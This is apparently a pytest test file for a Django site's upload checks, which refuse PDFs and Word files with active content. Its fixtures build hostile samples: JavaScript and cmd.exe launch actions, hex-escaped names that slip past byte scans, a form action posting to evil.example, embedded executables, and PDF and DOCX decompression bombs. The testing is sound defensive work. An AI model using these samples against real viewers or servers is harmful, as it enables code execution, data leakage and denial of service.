"""Active documents: PDFs that run scripts, launch programs, reach other files or carry embedded
files, encrypted or unreadable PDFs, and DOCX bombs are refused by content on the public forms,
with a Chinese message naming the file, and nothing is written. Every file is built here.
"""

import io
import time
import zipfile
import zlib

import pytest

from submissions import pdf
from submissions.models import Attachment, Contribution, EntryRequest
from tests.factories import IndustryFactory, RegionFactory
from tests.files import docx_bytes, pdf_bytes, pdf_document, pdf_made_by_pypdf, stored_files, upload
from tests.helpers import contribution_data, entry_data

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("submission_settings")]

SCRIPT = "JavaScript 脚本"
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"

ACTIVE_PDFS = {
    "open-action-javascript": (pdf_document(catalog=b"/OpenAction 4 0 R", objects=[JAVASCRIPT]), SCRIPT),
    # Packed in a compressed object stream: "/JavaScript" is nowhere in the file's bytes.
    "javascript-in-object-stream": (
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[JAVASCRIPT], packed=True),
        SCRIPT,
    ),
    "document-level-javascript": (
        pdf_document(catalog=b"/Names 4 0 R", objects=[b"<</JavaScript 5 0 R>>", b"<</Names[(x)6 0 R]>>", JAVASCRIPT]),
        SCRIPT,
    ),
    "hex-escaped-names": (
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[b"<</S/J#61vaScript/J#53(app.alert(1))>>"]),
        SCRIPT,
    ),
    "embedded-file": (pdf_made_by_pypdf(attachment=("发票.exe", b"MZ\x90\x00")), "嵌入文件"),
    "embedded-file-in-object-stream": (
        pdf_document(
            catalog=b"/Names 4 0 R",
            objects=[
                b"<</EmbeddedFiles 5 0 R>>",
                b"<</Names[(a.exe)6 0 R]>>",
                b"<</Type/Filespec/F(a.exe)/EF<</F 99 0 R>>>>",
            ],
            packed=True,
        ),
        "嵌入文件",
    ),
    "launch": (pdf_document(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "启动外部程序的动作"),
    # The action's type is itself a reference to a packed object: /S 5 0 R, 5 0 obj /Launch.
    "launch-by-reference": (
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[b"<</S 5 0 R/F(cmd.exe)>>", b"/Launch"], packed=True),
        "启动外部程序的动作",
    ),
    "additional-action-submit-form": (
        pdf_document(catalog=b"/AA<</WC 4 0 R>>", objects=[b"<</S/SubmitForm/F(http://evil.example/)>>"], packed=True),
        "向外部提交数据的表单动作",
    ),
    "go-to-remote-file": (
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>"], packed=True),
        "打开其他文件的链接",
    ),
    "javascript-link": (
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[b"<</S/URI/URI( JavaScript:alert(1))>>"], packed=True),
        "执行脚本或打开本机文件的链接",
    ),
    "xfa-form": (
        pdf_document(catalog=b"/AcroForm 4 0 R", objects=[b"<</Fields[]/XFA 5 0 R>>", b"[]"], packed=True),
        "XFA",
    ),
}


@pytest.fixture
def post(client):
    """Post `content` as `name` through a public form: 投稿's attachments or 企业入驻's licence."""

    def post(form, name, content):
        if form == "contribution":
            return client.post("/submit/", contribution_data(RegionFactory(), attachments=[upload(name, content)]))
        data = entry_data(RegionFactory(), IndustryFactory())
        return client.post("/enterprise/apply/", {**data, "business_license": upload(name, content)})

    return post


def assert_refused(response, settings, message):
    assert response.status_code == 400
    assert message in response.content.decode()
    assert Contribution.objects.count() == EntryRequest.objects.count() == Attachment.objects.count() == 0
    assert stored_files(settings) == []


# ----- PDF -----


@pytest.mark.parametrize("form", ["contribution", "entry"])
@pytest.mark.parametrize("case", ACTIVE_PDFS)
def test_a_pdf_with_active_content_is_refused_naming_the_file(post, settings, form, case):
    content, what = ACTIVE_PDFS[case]
    response = post(form, "营业执照.pdf", content)
    assert_refused(response, settings, f"“营业执照.pdf”包含{what}")


@pytest.mark.parametrize("form", ["contribution", "entry"])
def test_an_encrypted_pdf_is_refused(post, settings, form):
    response = post(form, "加密.pdf", pdf_made_by_pypdf(password=""))
    assert_refused(response, settings, "“加密.pdf”已加密或设有密码，无法检查其内容")


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + b"\x00\xff" * 500,
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",  # no page tree
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 50_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n",
    ],
    ids=["garbage", "no-pages", "deeply-nested"],
)
def test_an_unreadable_pdf_is_refused(post, settings, content):
    response = post("contribution", "坏文件.pdf", content)
    assert_refused(response, settings, "“坏文件.pdf”无法读取")


@pytest.mark.parametrize("form", ["contribution", "entry"])
@pytest.mark.parametrize(
    "content",
    [
        pdf_document(),
        pdf_document(catalog=b"/OpenAction 4 0 R", objects=[b"[3 0 R/Fit]"], packed=True),
        pdf_document(
            catalog=b"/Outlines 4 0 R",
            objects=[
                b"<</Count 1/First 5 0 R/Last 5 0 R>>",
                b"<</Title(JS)/Parent 4 0 R/A<</S/URI/URI(https://a.cn/)>>>>",
            ],
        ),
        pdf_made_by_pypdf(),
        pdf_bytes(),  # no cross-reference at all: viewers (and the check) find the objects again
    ],
    ids=["plain", "object-stream", "web-link", "pypdf", "no-xref"],
)
def test_a_clean_pdf_still_passes(post, settings, form, content):
    response = post(form, "方案.pdf", content)

    assert response.status_code == 200
    attachment = Attachment.objects.get()
    assert attachment.mime_type == "application/pdf"
    with attachment.file.open("rb") as handle:
        assert handle.read() == content  # stored unchanged


def _object_streams(count, unpacked):
    """A PDF of `count` object streams, each unpacking to `unpacked` bytes of blanks, and no
    cross-reference: pypdf unpacks every one of them while it looks for the objects."""
    packer, blanks = zlib.compressobj(1), b" " * (1024 * 1024)
    chunks = [
        packer.compress(b"9 0 "),
        *(packer.compress(blanks[: min(unpacked - done, len(blanks))]) for done in range(0, unpacked, len(blanks))),
    ]
    packed = b"".join([*chunks, packer.compress(b"null"), packer.flush()])
    streams = b"".join(
        b"%d 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
        % (number, len(packed), packed)
        for number in range(10, 10 + count)
    )
    return pdf_bytes()[:-6] + streams + b"%%EOF\n"


def test_a_pdf_that_would_take_minutes_to_read_is_refused_in_seconds(post, settings, monkeypatch):
    monkeypatch.setattr(pdf, "PDF_MAX_SECONDS", 1)
    hostile = _object_streams(400, 4 * 1024 * 1024)  # 7 MB that unpack to 1.6 GB

    started = time.monotonic()
    response = post("contribution", "炸弹.pdf", hostile)

    assert time.monotonic() - started < 4
    assert_refused(response, settings, "“炸弹.pdf”结构过于复杂，无法完成安全检查")


def test_a_pdf_that_needs_more_memory_than_allowed_is_refused_at_once(post, settings, monkeypatch):
    # Let pypdf unpack 200 MB (past the memory bound) and give it time: only the memory bound can stop it quickly.
    settings.SUBMISSIONS_MAX_UPLOAD_BYTES = 256 * 1024 * 1024
    monkeypatch.setattr(pdf, "PDF_MAX_MEMORY", 32 * 1024 * 1024)
    monkeypatch.setattr(pdf, "PDF_MAX_SECONDS", 60)

    hostile = _object_streams(1, 200 * 1024 * 1024)

    started = time.monotonic()
    response = post("contribution", "大对象.pdf", hostile)

    assert time.monotonic() - started < 10
    assert_refused(response, settings, "“大对象.pdf”结构过于复杂")


# ----- DOCX -----


def _docx_unpacking_to(total):
    """A Word document whose entries unpack to `total` bytes in all, none over a megabyte (so
    no entry's compression ratio is checked)."""
    base = sum(entry.file_size for entry in zipfile.ZipFile(io.BytesIO(docx_bytes())).infolist())
    rest, extra, part = total - base, {}, 0
    while rest > 0:
        size = min(rest, 512 * 1024)
        extra[f"word/media/part{part}.bin"] = b"\x00" * size
        rest, part = rest - size, part + 1
    return docx_bytes(extra=extra)


@pytest.mark.parametrize(("over", "accepted"), [(0, True), (1, False)])
def test_a_docx_may_unpack_to_five_times_the_upload_limit_and_no_more(client, settings, over, accepted):
    settings.SUBMISSIONS_MAX_UPLOAD_BYTES = 256 * 1024
    document = _docx_unpacking_to(5 * 256 * 1024 + over)
    response = client.post("/submit/", contribution_data(RegionFactory(), attachments=[upload("稿件.docx", document)]))

    if accepted:
        assert response.status_code == 200
        assert Attachment.objects.get().size == len(document)
    else:
        assert_refused(response, settings, "“稿件.docx”解压后超过")


def test_a_docx_entry_with_an_absurd_compression_ratio_is_refused(client, settings):
    bomb = docx_bytes(extra={"word/media/image1.png": b"\x00" * (2 * 1024 * 1024)})  # 2 MB packed into 2 KB
    response = client.post("/submit/", contribution_data(RegionFactory(), attachments=[upload("稿件.docx", bomb)]))
    assert_refused(response, settings, "或压缩比异常，可能是压缩炸弹")


@pytest.mark.parametrize("part", ["word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"])
def test_a_docx_with_activex_or_ole_objects_is_refused(client, settings, part):
    document = docx_bytes(extra={part: b"\xd0\xcf\x11\xe0" + b"\x00" * 60})
    response = client.post("/submit/", contribution_data(RegionFactory(), attachments=[upload("稿件.docx", document)]))
    assert_refused(response, settings, "“稿件.docx”包含宏、ActiveX 控件或嵌入的程序对象")
